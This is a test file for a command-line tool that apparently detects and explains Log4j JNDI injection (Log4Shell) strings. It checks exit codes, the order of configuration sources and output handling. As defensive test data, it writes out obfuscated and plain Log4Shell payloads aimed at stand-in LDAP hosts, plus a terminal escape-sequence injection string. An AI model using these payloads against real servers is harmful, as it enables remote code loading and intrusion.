import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, describe, expect, test } from 'vitest'
import { fireline } from '../kit/fireline.ts'

const folder = mkdtempSync(join(tmpdir(), 'fireline-cli-'))
afterAll(() => rmSync(folder, { recursive: true }))

test('--help lists every verb, and each verb shows examples', async () => {
  const { code, stdout } = await fireline(['--help'])
  expect(code).toBe(0)
  for (const verb of ['probe', 'catch', 'explain', 'lab']) {
    expect(stdout).toContain(verb)
    const help = await fireline([verb, '--help'])
    expect(help.code).toBe(0)
    expect(help.stdout).toContain('Examples:')
  }
})

test('--version is that of the package', async () => {
  expect((await fireline(['--version'])).stdout).toMatch(/^\d+\.\d+\.\d+\n$/)
})

test.each([
  ['an unknown verb', ['prob'], /unknown command 'prob'/],
  ['an unknown option', ['probe', '--rat', '5', 'http://127.0.0.1/'], /unknown option '--rat'/],
  [
    'a number that is none',
    ['probe', '--wait', 'long', 'http://127.0.0.1/'],
    /--wait "long" is not a number of seconds/,
  ],
  ['an unknown profile', ['probe', '--profile', 'fast', 'http://127.0.0.1/'], /quick, standard, deep/],
  ['an unknown format', ['probe', '--format', 'pdf', 'http://127.0.0.1/'], /REPORT_FORMAT_UNKNOWN/],
  ['no target', ['probe'], /--targets/],
  ['a list that is not there', ['probe', '--targets', 'no-such-file'], /no-such-file/],
  ['an unknown point', ['probe', '--points', 'headr', 'http://127.0.0.1/'], /headr/],
  ['an unknown release', ['explain', '--log4j', '2', 'x'], /--log4j 2 is not a release number/],
  ['no text', ['explain'], /EXPLAIN_NO_TEXT/],
  ['a bad port', ['catch', '--dns', '127.0.0.1:99999'], /--dns 127.0.0.1:99999/],
  ['an admin API in clear', ['catch', '--admin', '0.0.0.0:0'], /ADMIN_NEEDS_TLS/],
])('%s ends with 3, names it and says what to do', async (_case, args, message) => {
  const { code, stderr } = await fireline(args)

  expect(stderr).toMatch(message)
  expect(code).toBe(3)
})

test('a problem is JSON where JSON was asked for', async () => {
  const { code, stdout } = await fireline(['probe', '--format', 'json', '--points', 'nope', 'http://127.0.0.1/'])

  expect(code).toBe(3)
  expect(JSON.parse(stdout)).toMatchObject({ code: 'POINT_UNKNOWN' })
})

test('options come from the command line, then the environment, then the configuration file', async () => {
  const config = (content: unknown): void =>
    writeFileSync(join(folder, 'fireline.config.json'), JSON.stringify(content))
  config({ explain: { log4j: '2.3' } })
  const nested = '${${::-j}ndi:ldap://x.example/a}'
  const says = async (args: readonly string[], env = {}) =>
    (await fireline(['explain', nested, ...args], { cwd: folder, env })).stdout
  expect(await says([])).toContain('Log4j 2.3 makes')
  expect(await says([], { FIRELINE_LOG4J: '2.12.1' })).toContain('Log4j 2.12.1 makes')
  expect(await says(['--log4j', '2.14.1'], { FIRELINE_LOG4J: '2.12.1' })).toContain('Log4j 2.14.1 makes')
  config({ explain: { log4: '2.3' } })
  expect(await fireline(['explain', 'x'], { cwd: folder })).toMatchObject({
    code: 3,
    stderr: expect.stringContaining('explain.log4') as string,
  })
})

test('explain ends with 1 for a text that would call out, with 0 for one that would not', async () => {
  const fires = await fireline(['explain', '${${::-j}ndi:ldap://x.example/a}'])
  expect(fires.code).toBe(1)
  expect(fires.stdout).toContain('contacts x.example, port 389, by ldap')
  expect((await fireline(['explain', '${jndi:LDAP://x.example/a}'])).code).toBe(0)
})

test('explain shows what came from outside without letting it reach the terminal', async () => {
  const { stdout } = await fireline(['explain', '${jndi:ldap://x/\u001b]0;owned\u0007}'])

  expect(stdout).not.toMatch(/[\u001b\u0007]/)
})

test('explain --jsonl gives one answer a line, in order, whatever the line is', async () => {
  const { code, stdout } = await fireline(['explain', '--jsonl'], { input: '"a"\nnot json\n"${jndi:ldap://h/a}"\n5' })
  const answers = stdout
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as { input: string | null; jndi: string[]; error: string | null })

  expect(code).toBe(0)
  expect(answers.map(({ input, jndi, error }) => [input, jndi, error])).toEqual([
    ['a', [], null],
    [null, [], 'not-a-json-string'],
    ['${jndi:ldap://h/a}', ['ldap://h/a'], null],
    [null, [], 'not-a-json-string'],
  ])
})

describe.skipIf(process.platform === 'win32')('results that nobody gets do not end as if all was told', () => {
  const attacks = join(folder, 'attacks.log')
  writeFileSync(attacks, '${jndi:ldap://a.example/x}\n'.repeat(500))

  test.each([
    [
      'a reader that goes away ends the command with 141, as SIGPIPE would',
      '"$0" "$@" | true; exit ${PIPESTATUS[0]}',
      141,
    ],
    ['a full disk is a problem', '"$0" "$@" >/dev/full', 3],
    ['progress that nobody reads changes nothing', '"$0" "$@" 2>&1 >/dev/null | true; exit ${PIPESTATUS[0]}', 1],
  ])('%s', async (_case, shell, code) => {
    for (const format of ['text', 'jsonl']) {
      const ended = await fireline(['hunt', '--format', format, attacks], { through: ['bash', '-c', shell] })

      expect(ended.code).toBe(code)
      expect(ended.stderr).not.toContain('defect')
    }
  })
})
